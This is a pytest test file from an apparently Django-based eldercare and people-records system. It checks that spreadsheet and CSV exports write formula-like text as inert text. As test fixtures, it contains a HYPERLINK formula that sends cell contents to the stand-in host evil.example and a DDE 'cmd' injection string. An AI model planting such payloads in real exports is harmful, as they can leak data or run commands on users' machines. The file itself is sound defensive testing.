"""Every spreadsheet we hand out is written by ``core.spreadsheets``: text that a spreadsheet would run as a
formula (``=``, ``+``, ``-``, ``@``, tab, CR) is written as text, numbers stay numbers (SECURITY "Hostile
files"; S4 export, S14 coverage export, the import template and error file, the helper-account CSV)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, time
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from zhulao.core.imports import specs, workbooks
from zhulao.core.models import ImportRowError
from zhulao.core.spreadsheets import ExportWorkbook, cell_value, xlsx_response
from zhulao.eldercare.tests import factories as elder_factories
from zhulao.people.tests import factories as f

pytestmark = pytest.mark.usefixtures("policy")

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
REPO = Path(__file__).resolve().parents[3]


def _cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(cells: list[openpyxl.cell.cell.Cell]) -> None:
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_is_written_as_text(start):
    assert cell_value(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [7, -5, Decimal("-1.50"), 2.5, True, date(2025, 1, 1), None])
def test_numbers_dates_and_booleans_stay_what_they_are(value):
    assert cell_value(value) is value


def test_ordinary_text_is_unchanged():
    assert cell_value("林秀英") == "林秀英"
    assert cell_value("3506**********1234") == "3506**********1234"


def test_a_bare_openpyxl_workbook_is_refused_by_the_download():
    with pytest.raises(TypeError):
        xlsx_response(openpyxl.Workbook(write_only=True), "x")


def test_export_workbook_keeps_numbers_numeric_and_formulas_inert():
    book = ExportWorkbook()
    book.create_sheet("s").append([EVIL, -3, "-3", "@SUM(A1)"])
    cells = _cells(book.save())
    assert [c.value for c in cells] == ["'" + EVIL, -3, "'-3", "'@SUM(A1)"]
    assert [c.data_type for c in cells] == ["s", "n", "s", "s"]


def test_s4_a_person_named_like_a_formula_is_exported_as_text(regions, civil_affairs_a, client_for):
    # given
    f.make_person(regions["village_a"], name=EVIL)
    # when
    response = client_for(civil_affairs_a).get(reverse("people:person_export"))
    # then
    cells = _cells(response.content)
    _no_formula(cells)
    assert "'" + EVIL in [c.value for c in cells]


def test_s14_an_elder_named_like_a_formula_is_exported_as_text(regions, township_a, client_for):
    # given: an elder never visited
    elder_factories.make_elder(regions["village_a"], actor=township_a, name="+cmd|' /C calc'!A0")
    # when
    with elder_factories.on(date(2025, 2, 20), time(12)):
        response = client_for(township_a).get(reverse("eldercare:coverage_export"))
    # then
    cells = _cells(response.content)
    _no_formula(cells)
    assert "'+cmd|' /C calc'!A0" in [c.value for c in cells]


def test_import_error_file_writes_the_bad_value_as_text():
    error = ImportRowError(row_number=3, column_header="=A1", value_masked="-2+3", message="@bad")
    cells = _cells(workbooks.error_workbook([error]))
    _no_formula(cells)
    assert [c.value for c in cells[4:]] == [3, "'=A1", "'-2+3", "'@bad"]


def test_import_template_is_written_through_the_same_writer():
    cells = _cells(workbooks.template_workbook(specs.get_spec("persons")))
    _no_formula(cells)


def test_s8_helper_account_file_writes_names_as_text(tmp_path, monkeypatch):
    # given: a placement whose helper is named like a formula (the service is stood in for)
    from zhulao.posts import services as posts_services
    from zhulao.posts.models import Placement

    class _Person:
        name = EVIL
        region_id = "350602100200"

    class _Placement:
        person = _Person()
        public_id = "p-1"

    class _User:
        def get_username(self) -> str:
            return "zly1"

    class _Due:
        def filter(self, **kwargs):
            return self

        def select_related(self, *args):
            return self

        def order_by(self, *args):
            return [_Placement()]

    monkeypatch.setattr(Placement.objects, "filter", lambda **kw: _Due())
    monkeypatch.setattr(posts_services, "placement_account_issue", lambda **kw: (_User(), "abcDEF234#xyzw"))
    out = tmp_path / "accounts.csv"
    # when
    call_command("issue_helper_accounts", "--out", str(out), stdout=io.StringIO())
    # then
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[1][:3] == ["zly1", "abcDEF234#xyzw", "'" + EVIL]


def test_no_spreadsheet_is_written_outside_the_shared_writer():
    # given: the places that may build workbooks or CSV themselves
    allowed = {"zhulao/core/spreadsheets.py", "zhulao/core/imports/workbooks.py", "zhulao/core/imports/reading.py"}
    pattern = re.compile(r"from openpyxl import .*Workbook\b|openpyxl\.Workbook\(|csv\.writer\(|csv\.DictWriter\(")
    # when
    offenders = [
        str(path.relative_to(REPO))
        for path in (REPO / "zhulao").rglob("*.py")
        if "/tests/" not in str(path) and pattern.search(path.read_text(encoding="utf-8"))
    ]
    # then
    assert sorted(set(offenders) - allowed) == []
